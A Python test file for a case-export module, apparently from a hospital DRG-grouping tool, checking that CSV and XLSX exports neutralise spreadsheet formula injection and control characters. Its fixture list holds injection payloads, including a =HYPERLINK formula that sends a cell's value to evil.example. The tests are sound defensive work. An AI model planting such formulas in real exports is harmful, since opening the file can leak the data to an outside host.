"""Exports write hostile cells as text: no formula runs when the file is opened, and a control
character does not stop an XLSX export (issue 18, point 5)."""
from __future__ import annotations

import csv

import openpyxl
import pytest

from tests.engine.factory import add_batch, add_case, add_groups
from workstation.domain.export_cells import csv_cell, formula_like
from workstation.engine.export import export_cases
from workstation.engine.recompute import recompute
from workstation.services.quarantine import export_quarantine_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+SUM(1,2)", "-2+3", "@cmd", "=1+1"]


@pytest.fixture
def hostile(db):
    add_groups(db, [{"drg_code": "FM19", "weight": "1.2", "avg_cost": "10000.00"},
                    {"drg_code": "=FM19", "weight": "1.2", "avg_cost": "10000.00"}])
    batch = add_batch(db)
    for n, text in enumerate(HOSTILE):
        add_case(db, batch, case_id=text, hospital="-H001" if n == 0 else "H001",
                 drg_code="=FM19" if n == 1 else "FM19")
    add_case(db, batch, case_id="ZY\x07\x1bBELL", hospital="H001")  # control characters
    recompute(db, actor="t")
    return db


def test_csv_export_writes_formula_like_cells_after_a_single_quote(hostile, tmp_path):
    out = tmp_path / "cases.csv"
    export_cases(hostile, out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    case_ids = {r["case_id"] for r in rows}
    for text in HOSTILE:
        assert "'" + text in case_ids
    assert not any(formula_like(cell) for r in rows for cell in r.values())
    assert {r["hospital_code"] for r in rows} == {"'-H001", "H001"}
    assert "'=FM19" in {r["drg_code"] for r in rows}


def test_xlsx_export_writes_them_as_text_cells_and_survives_control_characters(hostile, tmp_path):
    out = tmp_path / "cases.xlsx"
    assert export_cases(hostile, out) == len(HOSTILE) + 1
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    shown = {c.value for c in cells}
    for text in HOSTILE:
        assert text in shown  # as it was, not prefixed: the cell is text
    assert "ZY\ufffd\ufffdBELL" in shown


def test_plain_numbers_stay_numbers():
    assert csv_cell("-12.50") == "-12.50" and csv_cell("+3") == "+3"
    assert csv_cell("-1+2") == "'-1+2" and csv_cell("\t=1") == "'\t=1"


def test_the_quarantine_export_neutralises_raw_cells(db, tmp_path):
    from tests.importer.helpers import case, write_batch
    from workstation.importer.service import import_batch

    rows = [case(1, main_dx="=HYPERLINK(\"http://x\")", sex="")]
    result = import_batch(db, write_batch(tmp_path / "b.csv", rows), actor="t")
    out = tmp_path / "q.csv"
    export_quarantine_csv(db, result.batch_id, out)
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
